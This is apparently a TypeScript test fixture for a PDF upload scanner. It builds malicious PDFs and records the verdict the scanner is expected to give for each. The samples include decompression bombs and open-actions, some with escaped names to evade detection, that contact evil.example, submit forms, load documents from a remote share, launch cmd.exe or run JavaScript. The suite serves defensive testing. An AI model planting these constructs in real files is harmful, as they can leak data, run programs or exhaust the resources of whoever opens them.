import { deflateSync } from 'node:zlib'
import { packedObjects, plainPdf } from '../uploads.ts'
import { active, damaged, upload, type Attack } from './attack.ts'

const mib = 1024 * 1024
/** Just below the largest upload. */
const most = 4.8 * mib

const filled = (unit: string, bytes = most): string => unit.repeat(Math.floor(bytes / unit.length))

/** A stream of packed objects with any dictionary and any data. */
const objectStream = (data: Buffer, filter = '/Filter /FlateDecode '): Buffer =>
  Buffer.concat([
    Buffer.from(`<< /Type /ObjStm /N 1 /First 5 ${filter}/Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from('\nendstream'),
  ])

const zeroes = (bytes: number) => deflateSync(Buffer.alloc(bytes, ' '))
/** The same stream so often, as one object: the table of places would take longer than all of them. */
const bombs = (count: number, bytes: number): Buffer[] => [
  Buffer.concat(Array<Buffer>(count).fill(objectStream(zeroes(bytes)))),
]

const uri = '<< /S /URI /URI (https://evil.example) >>'
const link =
  '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://a.example) >> >>'

/** What exhausts time or memory. */
const exhausting: Attack[] = [
  upload('a hundred streams of 3 MB', () => plainPdf('', bombs(100, 3 * mib)), damaged),
  upload('1,400 streams of 3 MB', () => plainPdf('', bombs(1400, 3 * mib)), damaged),
  upload('one stream of 200 MB', () => plainPdf('', bombs(1, 200 * mib)), damaged),
  upload('forty thousand streams of nothing', () => plainPdf('', bombs(40_000, 0)), 'ok'),
  upload('4.8 MB of escaped letters', () => plainPdf(`/X (${filled('/#41')}) `), 'ok'),
  upload('4.8 MB of number signs', () => plainPdf(`/X (${filled('#')}) `), 'ok'),
  upload('4.8 MB of stream keywords', () => plainPdf(`/X (${filled('stream\n')}) `), 'ok'),
  upload('4.8 MB of streams without an end', () => plainPdf(filled('>>stream\n')), 'ok'),
  upload('4.8 MB of empty streams', () => plainPdf(filled('>>stream\nendstream')), 'ok'),
  upload(
    'white space before stream keywords',
    () => plainPdf(filled(`>>${' '.repeat(9999)}x stream\n`)),
    'ok',
  ),
  upload('4.8 MB of object stream names', () => plainPdf(filled('/ObjStm ')), damaged),
  upload('4.8 MB of open actions', () => plainPdf(`/URI () ${filled('/OpenAction ')}`), active),
  upload(
    '4.8 MB of digits that could be an object',
    () => plainPdf('', [`<< >>\nstream\n${filled('1 ')}\nendstream`]),
    'ok',
  ),
  upload(
    '4.8 MB of white space at the end',
    () => Buffer.concat([plainPdf(), Buffer.alloc(most, ' ')]),
    damaged,
  ),
  upload('4.8 MB of ends of file', () => plainPdf(`/X (${filled('%%EOF\n')}) `), 'ok'),
]

/** Packed objects that a reader could decode and we don't. */
const undecodable: Attack[] = [
  upload(
    'a stream deflated twice',
    () =>
      plainPdf('', [
        objectStream(deflateSync(zeroes(mib)), '/Filter [/FlateDecode /FlateDecode] '),
      ]),
    damaged,
  ),
  upload(
    'a stream packed with LZW',
    () => plainPdf('', [objectStream(Buffer.from('xx'), '/Filter /LZWDecode ')]),
    damaged,
  ),
  upload(
    'a stream cut off',
    () => plainPdf('', [objectStream(zeroes(mib).subarray(0, 500))]),
    damaged,
  ),
  upload(
    'an object stream without a stream',
    () => plainPdf('', ['<< /Type /ObjStm /N 1 >>']),
    damaged,
  ),
  upload('an encrypted document', () => plainPdf('', [], '/Encrypt 9 0 R '), active),
]

/** What runs, opens or sends something by itself. */
const acting: Attack[] = [
  upload('an address on opening', () => plainPdf(`/OpenAction ${uri} `), active),
  upload(
    'an address on opening, in another object',
    () => plainPdf('/OpenAction 5 0 R ', [uri]),
    active,
  ),
  upload(
    'an address on opening, in packed objects',
    () => plainPdf('/OpenAction 10 0 R ', [packedObjects(uri)]),
    active,
  ),
  upload(
    'an address on opening, all of it packed',
    () => plainPdf('', [packedObjects(`<< /Type /Catalog /OpenAction ${uri} >>`)]),
    active,
  ),
  upload(
    'an address on opening, escaped',
    () => plainPdf('/Open#41ction << /S /#55RI /#55RI (x) >> '),
    active,
  ),
  upload(
    'an action on opening a page',
    () => plainPdf('', [`<< /Type /Page /AA << /O ${uri} >> >>`]),
    active,
  ),
  upload(
    'an action on opening a page, packed',
    () => plainPdf('', [packedObjects(`<< /Type /Page /A#41 << /O ${uri} >> >>`)]),
    active,
  ),
  upload(
    'an action of an object hidden in a stream',
    () =>
      plainPdf('', [
        `<< /Length 60 >>\nstream\n7 0 obj << /Type /Page /AA << /O ${uri} >> >> endobj\nendstream`,
      ]),
    active,
  ),
  upload(
    'another document on opening',
    () => plainPdf('/OpenAction << /S /GoToR /F (//evil.example/share/a.pdf) >> '),
    active,
  ),
  upload(
    'a link to a document on a share',
    () => plainPdf('', ['<< /Subtype /Link /A << /S /GoToR /F (//evil.example/a.pdf) >> >>']),
    active,
  ),
  upload('an embedded document', () => plainPdf('/OpenAction << /S /GoToE /T << >> >> '), active),
  upload('a program', () => plainPdf('/OpenAction << /S /Launch /F (cmd.exe) >> '), active),
  upload(
    'a program behind a link, packed',
    () => plainPdf('', [packedObjects('<< /Subtype /Link /A << /S /L#61unch /F (x) >> >>')]),
    active,
  ),
  upload(
    'a script',
    () => plainPdf('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> '),
    active,
  ),
  upload(
    'a form that is sent',
    () => plainPdf('/OpenAction << /S /SubmitForm /F (https://evil.example) >> '),
    active,
  ),
  upload('data that are imported', () => plainPdf('', ['<< /S /ImportData /F (x) >>']), active),
  upload('a film', () => plainPdf('', ['<< /Subtype /RichMedia >>']), active),
  upload('an embedded file', () => plainPdf('/Names << /EmbeddedFiles << >> >> '), active),
  upload('an XFA form', () => plainPdf('/AcroForm << /XFA 5 0 R >> '), active),
]

const harmless: Attack[] = [
  upload('a link that a reader clicks', () => plainPdf('', [link]), 'ok'),
  upload(
    'a link, and a place to open at',
    () => plainPdf('/OpenAction [3 0 R /Fit] ', [link]),
    'ok',
  ),
  upload('a jump on opening', () => plainPdf('/OpenAction << /S /GoTo /D [3 0 R /Fit] >> '), 'ok'),
]

export const pdfAttacks: readonly Attack[] = [...exhausting, ...undecodable, ...acting, ...harmless]
